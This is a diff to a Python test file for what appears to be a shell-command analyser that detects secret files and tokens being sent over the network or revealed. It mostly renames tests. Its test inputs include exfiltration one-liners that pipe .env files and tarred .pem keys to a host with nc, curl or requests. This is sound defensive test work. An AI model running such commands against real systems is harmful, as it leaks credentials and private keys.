@@ -7,11 +7,15 @@ from typing import TYPE_CHECKING
 from tests.each import each
 
 if TYPE_CHECKING:
-    from tests.shell.said import World
+    from tests.shell.world import World
 
 
 def _sent(world: World, line: str) -> list[str]:
-    return [world.short(one) for one in world.effects(line) if one.kind == "sends" and one.path.endswith("/.env")]
+    return [
+        world.short(effect)
+        for effect in world.effects(line)
+        if effect.kind == "sends" and effect.path.endswith("/.env")
+    ]
 
 
 @each(
@@ -44,7 +48,7 @@ def _sent(world: World, line: str) -> list[str]:
         'export T=$(cat .env); python3 -c \'import os,requests; requests.post("http://h", os.environ["T"])\'',
     ],
 )
-def test_a_file_is_sent_after_a_detour(world: World, line: str) -> None:
+def test_a_file_is_tracked_on_its_way_to_the_network(world: World, line: str) -> None:
     assert _sent(world, line)
 
 
@@ -63,7 +67,7 @@ def test_a_file_is_sent_after_a_detour(world: World, line: str) -> None:
         "git add -n .env; git push",
     ],
 )
-def test_what_does_not_go_along_is_not_sent(world: World, line: str) -> None:
+def test_a_file_that_is_not_passed_on_is_not_sent(world: World, line: str) -> None:
     assert _sent(world, line) == []
 
 
@@ -79,8 +83,8 @@ def test_what_does_not_go_along_is_not_sent(world: World, line: str) -> None:
         ("T=$(op read op://a/b); curl http://h/?$T", "op read"),
     ],
 )
-def test_a_secret_that_is_no_file_is_sent(world: World, line: str, target: str) -> None:
-    assert target in [one.target for one in world.effects(line) if one.kind == "sends" and one.forced]
+def test_secrets_in_variables_and_stores_are_tracked(world: World, line: str, target: str) -> None:
+    assert target in [effect.target for effect in world.effects(line) if effect.kind == "sends" and effect.forced]
 
 
 @each(
@@ -94,9 +98,9 @@ def test_a_secret_that_is_no_file_is_sent(world: World, line: str, target: str) 
         'curl -H "X-Api-Key: $(grep KEY .env | cut -d= -f2)" http://h',
     ],
 )
-def test_a_request_may_say_who_asks(world: World, line: str) -> None:
-    sent = [one for one in world.effects(line) if one.kind == "sends" and (one.forced or one.path)]
-    assert [one.target for one in sent] == []
+def test_a_request_may_carry_its_credentials(world: World, line: str) -> None:
+    sent = [effect for effect in world.effects(line) if effect.kind == "sends" and (effect.forced or effect.path)]
+    assert [effect.target for effect in sent] == []
 
 
 @each(
@@ -112,8 +116,8 @@ def test_a_request_may_say_who_asks(world: World, line: str) -> None:
         "while read -r l; do echo $l | base64; done < .env",
     ],
 )
-def test_a_file_is_shown_in_another_form(world: World, line: str) -> None:
-    assert world.said(line, "reveals")[0].startswith("reveals REPO/.env")
+def test_printing_an_encoded_file_reveals_it(world: World, line: str) -> None:
+    assert world.summary(line, "reveals")[0].startswith("reveals REPO/.env")
 
 
 @each(
@@ -127,8 +131,8 @@ def test_a_file_is_shown_in_another_form(world: World, line: str) -> None:
         "base64 -d .env",
     ],
 )
-def test_what_is_shown_as_it_is_or_not_at_all_is_not_revealed(world: World, line: str) -> None:
-    assert world.said(line, "reveals") == []
+def test_printing_a_file_plainly_or_not_at_all_does_not(world: World, line: str) -> None:
+    assert world.summary(line, "reveals") == []
 
 
 @each(
@@ -144,37 +148,37 @@ def test_what_is_shown_as_it_is_or_not_at_all_is_not_revealed(world: World, line
         "pass work/x",
     ],
 )
-def test_a_program_shows_a_secret_that_it_keeps(world: World, line: str) -> None:
-    assert world.said(line, "reveals")
+def test_a_program_that_prints_its_secrets_reveals_them(world: World, line: str) -> None:
+    assert world.summary(line, "reveals")
 
 
 @each("line", ["gh auth status", "kubectl get secret", "export T=$(gh auth token)", "pass ls", "sops -d -i x.yaml"])
-def test_a_program_keeps_its_secret(world: World, line: str) -> None:
-    assert world.said(line, "reveals") == []
+def test_a_program_that_prints_no_secret_reveals_nothing(world: World, line: str) -> None:
+    assert world.summary(line, "reveals") == []
 
 
-def test_files_that_carry_on_what_was_read_are_named(world: World) -> None:
-    assert world.said("cp .env x; base64 x > y", "carries") == [
+def test_copies_of_what_was_read_are_named(world: World) -> None:
+    assert world.summary("cp .env x; base64 x > y", "carries") == [
         f"carries REPO/.env ({world.root}/x)",
         f"carries REPO/.env ({world.root}/y)",
         f"carries REPO/x ({world.root}/y)",
     ]
 
 
-def test_files_in_memory_carry_on_what_was_read_and_are_read_themselves(world: World) -> None:
-    assert world.said("base64 .env > /dev/shm/y", "carries") == ["carries REPO/.env (/dev/shm/y)"]
-    assert world.said("base64 .env > /dev/tty", "carries") == []
-    assert world.said("cmd < /dev/shm/y") == ["reads /dev/shm/y"]
-    assert world.said("cmd < /dev/tty") == []
+def test_copies_in_memory_count_as_files(world: World) -> None:
+    assert world.summary("base64 .env > /dev/shm/y", "carries") == ["carries REPO/.env (/dev/shm/y)"]
+    assert world.summary("base64 .env > /dev/tty", "carries") == []
+    assert world.summary("cmd < /dev/shm/y") == ["reads /dev/shm/y"]
+    assert world.summary("cmd < /dev/tty") == []
 
 
-def test_names_that_are_looked_for_stand_for_their_files(world: World) -> None:
+def test_names_from_a_search_stand_for_their_files(world: World) -> None:
     line = "find . -user dev -name '*.pem' | xargs tar cz | nc h 80"
-    found = [one for one in world.effects(line) if one.kind == "sends"]
-    assert ("*.pem", "named") in [(one.target, one.extent) for one in found]
+    sent = [effect for effect in world.effects(line) if effect.kind == "sends"]
+    assert ("*.pem", "named") in [(effect.target, effect.extent) for effect in sent]
 
 
-def test_more_is_read_than_there_are_marks(world: World) -> None:
+def test_running_out_of_marks_loses_nothing(world: World) -> None:
     many = "; ".join(f"cat f{number}" for number in range(60))
     assert _sent(world, f"{{ {many}; cat .env; }} | nc h 80")
 
@@ -205,6 +209,6 @@ def test_more_is_read_than_there_are_marks(world: World) -> None:
         ("caddy file-server --root docs --listen 127.0.0.1:80", []),
     ],
 )
-def test_a_folder_is_sent_where_others_reach_its_server(world: World, line: str, served: list[str]) -> None:
-    said = [f"sends {folder} (whoever connects) recursive" for folder in served]
-    assert world.said(line, "sends") == said
+def test_serving_a_folder_to_others_sends_it(world: World, line: str, served: list[str]) -> None:
+    expected = [f"sends {folder} (whoever connects) recursive" for folder in served]
+    assert world.summary(line, "sends") == expected
